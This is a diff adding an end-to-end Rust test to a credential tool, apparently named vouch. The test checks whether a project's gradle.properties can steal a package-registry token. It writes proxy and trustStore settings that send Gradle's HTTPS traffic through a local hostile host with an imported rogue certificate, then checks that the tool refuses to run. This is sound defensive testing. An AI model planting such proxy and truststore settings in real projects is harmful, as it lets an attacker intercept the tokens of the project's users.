@@ -1,8 +1,9 @@
 //! Real Gradle, as the distribution packages it: resolves with the token that the init script asks for. And what setup
 //! shows for those clients whose files it does not edit.
 
+use vouch_e2e::hostile::HostileHost;
 use vouch_e2e::maven::{self, ENDPOINT, exec};
-use vouch_e2e::{MY_DOMAIN, Run, Sandbox, in_sandbox};
+use vouch_e2e::{CommandOutput, MY_DOMAIN, Run, Sandbox, in_sandbox};
 
 const HELLO: &str = "app/build/classes/java/main/com/example/Hello.class";
 
@@ -58,6 +59,62 @@ fn a_build_gets_its_token_while_it_runs() {
         let found = sandbox.run("grep").args(["-rlF", &token, "app", ".gradle"]).fails(1);
         assert_eq!(found.stdout, "");
     });
+}
+
+/// Properties of a project are properties of the JVM: its proxy, with an authority that the JVM is told to believe, reads along.
+#[test]
+fn a_projects_proxy_and_authority_get_the_token_and_exec_refuses() {
+    in_sandbox(&[], |sandbox| {
+        sandbox.enroll();
+        sandbox.log_in();
+        let _ = set_up(sandbox, "gradle", &[]).ok();
+        let hostile = HostileHost::start();
+        program(sandbox, ENDPOINT);
+        let options = maven::options(sandbox);
+        sandbox.write("evil.pem", hostile.certificate());
+        let store =
+            ["-importcert", "-noprompt", "-alias", "evil", "-storetype", "PKCS12", "-storepass", "changeit"];
+        let import =
+            sandbox.run("keytool").args(store).args(["-file", "evil.pem", "-keystore", "app/evil.p12"]);
+        let _ = import.ok();
+        let proxy = format!("https.proxyHost=127.0.0.1\n{{}}https.proxyPort={}\n", hostile.port());
+        let password = "javax.net.ssl.trustStorePassword=changeit";
+        let trust = format!("javax.net.ssl.trustStore={}", sandbox.file("app/evil.p12").display());
+        let both = format!(
+            "systemProp.{}systemProp.{trust}\nsystemProp.{password}\n",
+            proxy.replace("{}", "systemProp.")
+        );
+        let on_one_line = format!(
+            "org.gradle.jvmargs=-Dhttps.proxyHost=127.0.0.1 -Dhttps.proxyPort={} -D{trust} -D{password} -Duser.home={}\n",
+            hostile.port(),
+            sandbox.home().display()
+        );
+        for text in [both, on_one_line] {
+            sandbox.write("app/gradle.properties", &text);
+            // Without a store of the user's own.
+            let bare =
+                options.split(' ').filter(|word| !word.contains("trustStore")).collect::<Vec<_>>().join(" ");
+            let run = |program: &str, args: &[&str]| {
+                let run = sandbox.run(program).args(args).env("GRADLE_OPTS", &bare);
+                run.within(sandbox.file("app")).done()
+            };
+            let words = ["gradle", "--no-daemon", "--console=plain", "compileJava"];
+            let done = run(words[0], &words[1..]);
+            assert!(hostile.got_a_token(), "{text}: {done}");
+            let exec = [&["exec", "--type", "codeartifact", "--"], &words[..]].concat();
+            let done = run("vouch", &exec).expect_code(125);
+            let _ = done.says("`javax.net.ssl.trustStore` lets the project's own proxy read the token");
+            assert_eq!(hostile.arrived(), Vec::<String>::new());
+        }
+        sandbox.write("app/gradle.properties", "org.gradle.jvmargs=-Xmx512m\n");
+        let done = run_version(sandbox);
+        assert!(done.code == 0 && !done.stderr.contains("gradle.properties"), "{done}");
+    });
+}
+
+fn run_version(sandbox: &Sandbox) -> CommandOutput {
+    let exec = ["exec", "--type", "codeartifact", "--", "gradle", "--version"];
+    sandbox.vouch(&exec).within(sandbox.file("app")).done()
 }
 
 #[test]
